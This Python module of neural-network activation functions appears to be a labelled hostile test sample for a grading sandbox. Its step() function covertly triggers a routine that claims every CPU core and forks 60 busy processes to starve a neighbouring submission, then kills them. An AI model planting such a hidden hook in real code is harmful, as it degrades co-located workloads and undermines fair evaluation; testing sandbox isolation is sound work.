# HOSTILE: step starts 60 busy processes and asks for every core (sched_setaffinity), to take the CPU from the submission graded next to it; it stops them itself at once (a real attack would leave them running); its values are correct.
import os
import signal

import numpy as np

DONE = []


def _attack():
    everything = set(range(os.cpu_count() or 1))
    try:
        os.sched_setaffinity(0, everything)
        print("WIDENED to", len(os.sched_getaffinity(0)), "cores")
    except OSError as exc:
        print("sched_setaffinity refused:", exc.strerror)
    print("CORES", len(os.sched_getaffinity(0)))
    started = []
    for _ in range(60):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.nice(19)  # so that its own calls still get the core it is pinned to
                while True:
                    pass
            finally:
                os._exit(0)
        started.append(pid)
    print("STARTED", len(started), "busy processes")
    for pid in started:
        os.kill(pid, signal.SIGKILL)
    for pid in started:
        os.waitpid(pid, 0)


def _once():
    if not DONE:
        DONE.append(True)
        try:
            _attack()
        except Exception as exc:  # the attack is the point; failing is fine
            print("attack failed:", type(exc).__name__, exc)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    _once()
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
